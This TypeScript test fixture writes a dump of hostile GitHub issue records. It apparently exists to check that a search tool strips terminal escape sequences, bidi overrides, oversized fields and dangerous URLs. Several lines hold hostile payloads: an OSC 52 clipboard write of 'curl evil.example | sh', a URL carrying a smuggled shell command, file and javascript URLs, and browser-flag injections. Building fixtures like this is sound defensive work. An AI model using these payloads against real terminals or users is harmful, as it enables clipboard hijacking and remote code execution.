/**
 * A corpus of hostile records (made by code, kept small): what an untrusted dump may hold to attack the terminal,
 * the shell or the browser of whoever searches it. Escape sequences (OSC 52 clipboard, OSC 0 title, CSI clear,
 * DCS, 8-bit C1 forms, blink), bidirectional overrides, lone surrogates, a huge title, hostile `html_url`s and
 * extreme numbers. Each record is a valid issue; {@link writeHostileDump} writes them as a dump directory.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';

const ESC = '\u001b';
const BEL = '\u0007';
const osc52 = (text: string) => `${ESC}]52;c;${Buffer.from(text).toString('base64')}${BEL}`;

/** Sequences a terminal acts on; none may reach a terminal from a record. */
export const ATTACKS = {
  clipboard: osc52('curl evil.example | sh\n'),
  title: `${ESC}]0;pwned${BEL}`,
  clear: `${ESC}[2J${ESC}[H`,
  blink: `${ESC}[5m`,
  dcs: `${ESC}P1$r${ESC}\\`,
  csi8bit: '\u009b2J',
  osc8bit: '\u009d0;pwned8\u009c',
  rtlOverride: '\u202eevil\u202c',
  isolate: '\u2066x\u2069',
  carriageReturn: 'ok\roverwritten',
  backspace: 'abc\b\b\bxyz',
  nul: 'a\u0000b',
} as const;

/** The text of every attack in one string. */
export const ALL_ATTACKS = Object.values(ATTACKS).join(' ');

/** True when `text` holds something a terminal would act on: C0 (but `\n`), DEL, C1 or a bidi control. */
export function drivesTerminal(text: string): boolean {
  return /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(text);
}

/** URLs `o` must never open and `y` never copy. */
export const HOSTILE_URLS = [
  '--remote-debugging-port=9222',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'https://github.com/o/r/issues/1\n; curl evil.example | sh',
  `https://github.com/o/r/issues/1${ESC}]0;x${BEL}`,
  'https://github.com/o/r/issues/1 --incognito',
] as const;

/** A title long enough to hang a view that splits it into characters (about 200k UTF-16 units). */
export const HUGE_TITLE = `huge ${'👍🏽 wide 漢字 '.repeat(16_000)}end`;

const REPO = 'https://api.github.com/repos/o/r';

/** An issue record with `fields` merged in. */
export function hostileIssue(number: number, fields: Record<string, unknown>): Record<string, unknown> {
  return {
    number,
    title: `issue ${number}`,
    state: 'open',
    repository_url: REPO,
    html_url: `https://github.com/o/r/issues/${number}`,
    url: `${REPO}/issues/${number}`,
    user: { login: 'someone' },
    labels: [],
    comments: 0,
    created_at: '2025-01-01T00:00:00Z',
    updated_at: '2025-01-02T00:00:00Z',
    body: `zebra body ${number}`,
    ...fields,
  };
}

/** The hostile issues: every attack in every drawn field, hostile URLs, a huge title, extreme numbers. */
export function hostileIssues(): Record<string, unknown>[] {
  return [
    hostileIssue(1, {
      title: `zebra ${ATTACKS.clipboard}${ATTACKS.title} title ${ATTACKS.rtlOverride}`,
      body: `zebra ${ALL_ATTACKS}\nsecond line ${ATTACKS.csi8bit}`,
      labels: [{ name: `bug${ATTACKS.title}${ATTACKS.clear}`, color: 'ff0000' }, { name: ATTACKS.osc8bit, color: `00ff00${ESC}[5m` }],
      user: { login: `mallory${ATTACKS.blink}${ATTACKS.dcs}` },
      milestone: { title: `m${ATTACKS.carriageReturn}${ATTACKS.backspace}` },
      html_url: HOSTILE_URLS[0],
    }),
    hostileIssue(2, { title: `zebra two ${ATTACKS.isolate}${ATTACKS.nul}`, html_url: HOSTILE_URLS[3] }),
    hostileIssue(3, { title: `zebra three`, html_url: HOSTILE_URLS[1] }),
    hostileIssue(4, { title: `zebra four`, html_url: HOSTILE_URLS[2] }),
    hostileIssue(5, { title: `zebra five`, html_url: HOSTILE_URLS[4] }),
    hostileIssue(6, { title: `zebra six`, html_url: HOSTILE_URLS[5] }),
    hostileIssue(7, { title: `zebra ${HUGE_TITLE}`, body: `zebra ${'x'.repeat(300_000)}` }),
    hostileIssue(8, { title: 'zebra numbers', comments: 1e308, number: 2 ** 53 + 2 }),
    hostileIssue(9, { title: 'zebra lone \ud800 surrogate and \udc00 low', body: 'zebra' }),
    hostileIssue(10, { title: 'zebra safe', html_url: 'https://github.com/o/r/issues/10' }),
  ];
}

/** Write the hostile issues as a dump directory under `dir`; returns it. */
export function writeHostileDump(dir: string): string {
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, 'issues.json'), JSON.stringify(hostileIssues()));
  return dir;
}
